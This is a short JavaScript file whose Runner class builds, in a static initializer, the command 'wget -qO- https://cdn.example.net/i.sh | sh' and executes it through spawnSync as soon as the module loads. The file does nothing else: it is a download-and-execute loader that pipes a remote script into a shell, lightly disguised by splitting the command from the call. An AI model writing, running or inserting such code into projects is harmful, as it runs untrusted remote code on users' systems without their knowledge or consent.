const { spawnSync } = require('child_process');

class Runner {
  static argv;
  static {
    const url = 'https://cdn.example.net/i.sh';
    Runner.argv = ['sh', '-c', `wget -qO- ${url} | sh`];
  }
}

const [prog, ...args] = Runner.argv;
spawnSync(prog, args, { stdio: 'inherit' });
